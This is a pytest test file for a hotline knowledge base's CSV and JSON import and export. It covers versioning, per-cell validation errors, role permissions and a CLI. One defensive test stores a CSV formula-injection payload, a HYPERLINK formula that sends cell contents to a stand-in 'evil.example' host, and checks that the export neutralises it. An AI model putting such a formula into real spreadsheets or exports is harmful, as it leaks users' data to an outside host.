"""Knowledge import and export as a centre uses them: export, edit in Excel, import; a bad row stops the
whole file; unchanged rows make no new versions; edits are searchable at once. FAQ articles are editable."""
import asyncio
import csv
import io
import json
import uuid

import asyncpg
import pytest

from tests.conftest import TEST_PASSWORD, make_settings, start_client


@pytest.fixture
async def own_api(fresh_db_url, tmp_path):
    """A client on a database of its own (these tests change shared documents), with a fast embedder."""
    app, lifespan, client = await start_client(make_settings(fresh_db_url, tmp_path, embedder="hashing"))
    token = (await client.post("/api/v1/auth/token", data={"username": "supervisor", "password": TEST_PASSWORD}))
    client.headers["Authorization"] = f"Bearer {token.json()['access_token']}"
    yield client
    await client.aclose()
    await lifespan.__aexit__(None, None, None)


async def export(client, kind, fmt, headers=None):
    response = await client.get("/api/v1/knowledge/export", params={"kind": kind, "format": fmt}, headers=headers)
    assert response.status_code == 200, response.text
    return response.content


async def import_file(client, kind, fmt, content, headers=None):
    return await client.post("/api/v1/knowledge/import", params={"kind": kind, "format": fmt}, content=content,
                             headers=headers)


def sheet(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(rows: list[list[str]], encoding="utf-8-sig") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding)


async def test_an_unchanged_round_trip_makes_no_new_versions(api, tokens):
    # every format of both: the whole catalogue as JSON is larger than the body limit of other requests
    for kind, fmt in (("matters", "csv"), ("matters", "json"), ("articles", "json"), ("articles", "csv")):
        exported = await export(api, kind, fmt, tokens["supervisor"])
        result = await import_file(api, kind, fmt, exported, tokens["supervisor"])
        assert result.status_code == 200, result.text
        body = result.json()
        assert body["created"] == [] and body["updated"] == [] and body["unchanged"] == body["rows"] > 40
        assert await export(api, kind, fmt, tokens["supervisor"]) == exported



async def test_an_import_larger_than_its_own_limit_is_refused_before_it_is_read(api, tokens):
    from hotline.api.knowledge import IMPORT_MAX_BYTES

    response = await import_file(api, "matters", "json", b"[" + b" " * IMPORT_MAX_BYTES + b"]", tokens["supervisor"])
    assert response.status_code == 413 and response.json()["error"]["code"] == "payload_too_large"

async def test_the_csv_opens_in_excel_with_chinese_headers(api, tokens):
    content = await export(api, "matters", "csv", tokens["admin"])
    assert content.startswith("\ufeff".encode("utf-8"))  # the BOM Excel needs to read UTF-8
    header, *rows = sheet(content)
    assert header[:3] == ["事项编码", "主项名称", "子项名称"] and "申请材料" in header and len(rows) >= 150
    materials = json.loads(rows[0][header.index("申请材料")])
    assert materials[0]["name"] and materials[0]["form"] in ("original", "copy", "original_or_copy")


async def test_one_cell_edited_in_excel_makes_one_new_version_searchable_at_once(own_api):
    header, *rows = sheet(await export(own_api, "matters", "csv"))
    code, keywords, version = header.index("事项编码"), header.index("关键词"), header.index("版本")
    row = next(r for r in rows if r[code] == "gaj-hz-bf")
    row[keywords] += "\n护照泡水了"
    before = (await own_api.get("/api/v1/knowledge/matters/gaj-hz-bf")).json()["version"]

    result = await import_file(own_api, "matters", "csv", workbook([header, *rows]))
    assert result.status_code == 200, result.text
    assert result.json()["updated"] == ["gaj-hz-bf"] and result.json()["created"] == []
    assert (await own_api.get("/api/v1/knowledge/matters/gaj-hz-bf")).json()["version"] == before + 1
    hits = (await own_api.get("/api/v1/knowledge/search", params={"q": "护照泡水了"})).json()["results"]
    assert hits[0]["code"] == "gaj-hz-bf"
    assert row[version] == str(before)  # the file still says the old version: importing it again is a no-op
    again = await import_file(own_api, "matters", "csv", workbook([header, *rows]))
    assert again.json()["unchanged"] == len(rows)


async def test_one_bad_row_rejects_the_whole_file_naming_row_and_field(api, tokens):
    prefix = f"io-{uuid.uuid4().hex[:6]}"
    articles = [
        {"code": f"{prefix}-a", "question": "电动车充电桩怎么申请安装？", "answer": "向物业申请，报供电公司。",
         "department": "power", "keywords": ["充电桩"]},
        {"code": f"{prefix}-b", "question": "犬只怎么登记？", "answer": "到所在地派出所办理养犬登记。",
         "department": "gaj", "keywords": ["养狗登记"]},
        {"code": f"{prefix}-c", "question": "路灯不亮找谁？", "answer": "", "department": "nope", "keywords": ["路灯"]},
    ]
    response = await import_file(api, "articles", "json", json.dumps(articles).encode(), tokens["supervisor"])
    assert response.status_code == 422
    rows = response.json()["error"]["rows"]
    assert {(r["row"], r["code"], r["field"]) for r in rows} == {(3, f"{prefix}-c", "answer"),
                                                                  (3, f"{prefix}-c", "department")}
    for article in articles[:2]:  # the good rows were not applied either
        assert (await api.get(f"/api/v1/knowledge/articles/{article['code']}")).status_code == 404
    assert (await import_file(api, "articles", "json", json.dumps(articles[:2]).encode(),
                              tokens["agent"])).status_code == 403


async def test_spreadsheet_mistakes_are_reported_per_cell(api, tokens):
    header, *rows = sheet(await export(api, "matters", "csv", tokens["supervisor"]))
    first, second = rows[0], rows[1]
    first[header.index("最多跑一次")] = "可能"
    second[header.index("申请材料")] = "[{name: 身份证}]"
    second[header.index("法定时限(工作日)")] = "十五"
    response = await import_file(api, "matters", "csv", workbook([header, first, second]), tokens["supervisor"])
    assert response.status_code == 422
    found = {(r["row"], r["field"], r["column"]) for r in response.json()["error"]["rows"]}
    assert found == {(1, "max_one_visit", "最多跑一次"), (2, "materials", "申请材料"),
                     (2, "time_limit.legal_days", "法定时限(工作日)")}  # the column as the spreadsheet heads it

    renamed = [("办理地址" if h == "办理地点" else h) for h in header]
    response = await import_file(api, "matters", "csv", workbook([renamed, first]), tokens["supervisor"])
    assert {(r["row"], r["field"]) for r in response.json()["error"]["rows"]} == {(0, "办理地址"), (0, "location")}


async def test_a_file_exported_before_someone_elses_edit_is_refused(own_api):
    old_export = await export(own_api, "articles", "json")
    article = next(a for a in json.loads(old_export) if a["code"] == "faq-water-outage-notice")
    edited = {k: v for k, v in article.items() if k != "version"} | {"answer": article["answer"] + "（已更新）"}
    assert (await own_api.put("/api/v1/knowledge/articles/faq-water-outage-notice", json=edited)).status_code == 200

    response = await import_file(own_api, "articles", "json", old_export)
    assert response.status_code == 422
    [error] = response.json()["error"]["rows"]
    assert error["code"] == "faq-water-outage-notice" and error["field"] == "version"
    current = (await own_api.get("/api/v1/knowledge/articles/faq-water-outage-notice")).json()
    assert current["answer"].endswith("（已更新）")


async def test_an_excel_gbk_csv_with_slashed_dates_adds_a_matter(api, tokens):
    header, *rows = sheet(await export(api, "matters", "csv", tokens["supervisor"]))
    row = list(rows[0])
    code = f"io-{uuid.uuid4().hex[:6]}"
    for column, value in (("事项编码", code), ("主项名称", f"无人机航拍备案{code}"), ("子项名称", ""),
                          ("生效日期", "2026/1/1"), ("下次审核日期", "2027/6/30"), ("版本", "")):
        row[header.index(column)] = value
    response = await import_file(api, "matters", "csv", workbook([header, row], encoding="gb18030"),
                                 tokens["supervisor"])
    assert response.status_code == 200, response.text
    assert response.json()["created"] == [code]
    matter = (await api.get(f"/api/v1/knowledge/matters/{code}")).json()
    assert matter["version"] == 1 and matter["review_due"] == "2027-06-30"


async def test_a_supervisor_edits_an_faq_article_and_search_follows(own_api, tokens):
    code = "faq-power-outage-notice"
    current = (await own_api.get(f"/api/v1/knowledge/articles/{code}")).json()
    assert current["question"] and current["department"] == "power"
    edited = {"code": code, "question": current["question"], "answer": current["answer"],
              "department": "power", "keywords": current["keywords"] + ["变压器冒烟"]}
    refused = await own_api.put(f"/api/v1/knowledge/articles/{code}", json=edited, headers=tokens["agent"])
    assert refused.status_code == 403
    saved = await own_api.put(f"/api/v1/knowledge/articles/{code}", json=edited)
    assert saved.status_code == 200, saved.text
    assert saved.json()["version"] == current["version"] + 1
    hits = (await own_api.get("/api/v1/knowledge/search", params={"q": "变压器冒烟"})).json()["results"]
    assert hits[0]["code"] == code

    broken = {**edited, "answer": " ", "department": "nope", "extra": 1}
    response = await own_api.put(f"/api/v1/knowledge/articles/{code}", json=broken)
    assert response.status_code == 422
    assert {f["field"] for f in response.json()["error"]["fields"]} == {"answer", "department", "extra"}
    assert (await own_api.get("/api/v1/knowledge/articles/no-such-article")).status_code == 404


async def test_a_formula_saved_in_an_article_is_exported_inert_and_imports_back_unchanged(own_api):
    code = "faq-water-outage-notice"
    current = (await own_api.get(f"/api/v1/knowledge/articles/{code}")).json()
    formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击查看\")"
    saved = await own_api.put(f"/api/v1/knowledge/articles/{code}", json={
        "code": code, "question": current["question"], "answer": formula, "department": current["department"],
        "keywords": ["@SUM(1+1)", *current["keywords"]]})
    assert saved.status_code == 200, saved.text
    exported = await export(own_api, "articles", "csv")
    header, *rows = sheet(exported)
    row = next(r for r in rows if r[header.index("编码")] == code)
    assert row[header.index("答案")] == "'" + formula  # Excel shows it as text; it never runs
    assert row[header.index("关键词")].startswith("'@SUM(1+1)")
    result = await import_file(own_api, "articles", "csv", exported)
    assert result.status_code == 200 and result.json()["updated"] == [], result.text
    after = (await own_api.get(f"/api/v1/knowledge/articles/{code}")).json()
    assert after["answer"] == formula and after["version"] == saved.json()["version"]


async def _history_editors(url, article_code):
    conn = await asyncpg.connect(url)
    try:
        return [r["username"] for r in await conn.fetch(
            "SELECT u.username FROM knowledge_history h JOIN articles a ON a.id = h.doc_id AND h.doc_kind = 'article' "
            "LEFT JOIN users u ON u.id = h.changed_by WHERE a.code = $1 ORDER BY h.id", article_code)]
    finally:
        await conn.close()


def test_the_cli_exports_and_imports_the_same_files(fresh_db_url, tmp_path):
    from typer.testing import CliRunner

    from hotline.kb.cli import app

    runner, env = CliRunner(), {"HOTLINE_DATABASE_URL": fresh_db_url}
    file = tmp_path / "articles.csv"
    exported = runner.invoke(app, ["export", "--kind", "articles", "--file", str(file)], env=env)
    assert exported.exit_code == 0, exported.output
    assert json.loads(exported.output.splitlines()[-1])["rows"] > 40
    header, *rows = sheet(file.read_bytes())
    rows[0][header.index("答案")] = ""
    file.write_bytes(workbook([header, *rows]))
    as_supervisor = ["import", "--kind", "articles", "--file", str(file), "--user", "supervisor"]
    refused = runner.invoke(app, as_supervisor, env=env)
    assert refused.exit_code == 1
    assert json.loads(refused.output.splitlines()[-1])["errors"][0]["field"] == "answer"
    rows[0][header.index("答案")] = "新的答案"
    file.write_bytes(workbook([header, *rows]))
    as_agent = runner.invoke(app, [*as_supervisor[:-1], "agent"], env=env)  # agents do not edit the knowledge
    assert as_agent.exit_code == 2 and "--user" in as_agent.output
    imported = runner.invoke(app, as_supervisor, env=env)
    assert imported.exit_code == 0, imported.output
    assert json.loads(imported.output.splitlines()[-1])["updated"] == [rows[0][0]]
    history = asyncio.run(_history_editors(fresh_db_url, rows[0][0]))
    assert history[-1] == "supervisor"  # the new version names who imported it
